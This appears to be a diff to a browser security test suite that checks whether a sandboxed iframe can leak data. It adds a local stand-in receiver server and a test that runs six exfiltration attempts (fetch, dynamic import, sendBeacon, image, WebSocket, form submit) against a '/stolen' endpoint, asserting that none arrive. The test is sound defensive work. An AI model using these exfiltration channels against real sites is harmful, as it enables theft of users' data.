@@ -1,4 +1,6 @@
 /** What the headers are for, seen in a real browser: the app page is isolated, and the sandbox document can do nothing but compute. */
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import type { Browser, Page } from 'playwright';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { SANDBOX_FRAME_ALLOW, SANDBOX_FRAME_PATH } from '../app/lib/core/security-headers.ts';
@@ -20,12 +22,14 @@ describe.skipIf(!hasBrowser)('in Chromium', () => {
   let server: TestServer;
   let browser: Browser;
   let page: Page;
+  let receiver: Receiver;
   beforeAll(async () => {
-    [server, browser] = await Promise.all([
+    [server, browser, receiver] = await Promise.all([
       startTestServer({
-        files: { ...SMALL_BUILD, 'sandbox/frame.html': FRAME, 'secret.txt': 'secret', 'probe.js': PROBE },
+        files: { ...SMALL_BUILD, 'sandbox/frame.html': FRAME, 'probe.js': PROBE },
       }),
       launchBrowser(),
+      startReceiver(),
     ]);
     page = await browser.newPage();
     await page.goto(server.url);
@@ -33,6 +37,7 @@ describe.skipIf(!hasBrowser)('in Chromium', () => {
   afterAll(async () => {
     await browser.close();
     await server.close();
+    receiver.close();
   });
 
   /** Runs `code`, an async function body, in a sandbox document embedded by the app page. */
@@ -112,8 +117,38 @@ describe.skipIf(!hasBrowser)('in Chromium', () => {
     expect(await inSandbox(worker)).toEqual(['null', true, 'timed-out']);
   });
 
+  test('nothing the sandbox sends arrives anywhere, though the receiver would allow it', async () => {
+    const sent = [
+      "return fetch(URL_).then(() => 'sent')",
+      "await import(URL_); return 'sent'",
+      "return navigator.sendBeacon(URL_, 'x'), 'tried'",
+      "return new Promise((done) => { const image = new Image(); image.onload = image.onerror = () => done('tried'); image.src = URL_; })",
+      "return new Promise((done) => { const socket = new WebSocket(URL_.replace('http', 'ws')); socket.onopen = socket.onerror = () => done('tried'); })",
+      "const form = document.createElement('form'); form.action = URL_; document.body.append(form); form.submit(); return 'tried'",
+    ];
+    for (const code of sent)
+      await inSandbox(code.replaceAll('URL_', JSON.stringify(`${receiver.url}/stolen`)));
+    expect(receiver.arrived).toEqual([]);
+    // The receiver does hear what nothing stops.
+    await fetch(`${receiver.url}/heard`);
+    expect(receiver.arrived).toEqual(['/heard']);
+  });
+
+  test('the app page lets no frame go elsewhere with what it knows', async () => {
+    await page.evaluate(
+      (url) =>
+        new Promise((done) => {
+          document.addEventListener('securitypolicyviolation', done, { once: true });
+          const frame = document.createElement('iframe');
+          frame.src = url;
+          document.body.append(frame);
+        }),
+      `${receiver.url}/stolen`,
+    );
+    expect(receiver.arrived).not.toContain('/stolen');
+  });
+
   test.for([
-    ['fetch of the app', "return (await fetch('/secret.txt')).text()", 'refused: TypeError'],
     ['storage', 'return localStorage.length', 'refused: SecurityError'],
     ['the page around it', 'return parent.document.title', 'refused: SecurityError'],
     ['a database', "indexedDB.open('x'); return 'opened'", 'refused: SecurityError'],
@@ -135,3 +170,31 @@ describe.skipIf(!hasBrowser)('in Chromium', () => {
     expect(embedded).toBe('refused');
   });
 });
+
+interface Receiver {
+  readonly url: string;
+  readonly arrived: string[];
+  close(): void;
+}
+
+/** Somebody else's server, which lets every origin send to it. */
+async function startReceiver(): Promise<Receiver> {
+  const arrived: string[] = [];
+  const http = createServer((request, response) => {
+    arrived.push(request.url ?? '');
+    response.writeHead(200, {
+      'access-control-allow-origin': '*',
+      'cross-origin-resource-policy': 'cross-origin',
+      'cross-origin-embedder-policy': 'require-corp',
+      'content-type': 'text/javascript',
+    });
+    response.end();
+  });
+  http.on('upgrade', (request, socket) => {
+    arrived.push(request.url ?? '');
+    socket.destroy();
+  });
+  await new Promise<void>((listening) => http.listen(0, '127.0.0.1', listening));
+  const { port } = http.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, arrived, close: () => http.close() };
+}
